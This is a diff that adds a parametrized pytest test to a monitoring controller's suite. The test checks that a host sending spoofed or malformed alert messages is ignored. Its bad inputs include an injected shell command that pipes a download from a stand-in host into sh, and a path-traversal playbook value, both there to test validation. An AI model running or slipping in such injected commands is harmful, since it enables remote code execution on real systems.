@@ -94,6 +94,34 @@ def test_what_hosts_keep_and_what_the_controller_keeps_goes_out_together(tmp_pat
     }
 
 
+OTHERS = message("media1", event="ended", state="ok", was="critical")
+
+
+@pytest.mark.parametrize(
+    "told",
+    [
+        {"messages": [OTHERS]},
+        {"messages": [message("media2", dedup_key=OTHERS["dedup_key"])]},
+        {"messages": [message("media2", playbook="x; curl evil.example | sh #")]},
+        {"messages": [message("media2", playbook="../../../tmp/evil")]},
+        {"messages": [message("media2", severity="fine")]},
+        {"messages": [message("media2", event="all_is_well")]},
+        {"messages": [message("media2", at="never")]},
+        {"messages": [{}]},
+        {"open": [alert(BAD)]},
+        {"open": [{"host": "media2"}]},
+        {"open": ["x"]},
+    ],
+)
+def test_a_host_that_speaks_for_another_or_of_nothing_is_not_listened_to(told: dict[str, Any], tmp_path: Path) -> None:
+    liar = {**NOTHING, **told}
+    run = tell(tmp_path, hosts={**HOSTS, "media2": liar})
+    kept, sent, _acked = (one.arguments for one in run.asked)
+    assert (sent["messages"], sent["open_alerts"]) == ([BAD, GONE], [alert(BAD), alert(GONE)])
+    (unheard,) = [row["hosts"] for row in kept["verdicts"] if "does not keep its alert state" in row["message"]]
+    assert unheard == ["media2", "media4", "media5"]
+
+
 def test_each_run_has_a_name_of_its_own(tmp_path: Path) -> None:
     names = {tell(tmp_path).asked[0].arguments["run_id"] for _time in range(3)}
     assert len(names) == 3
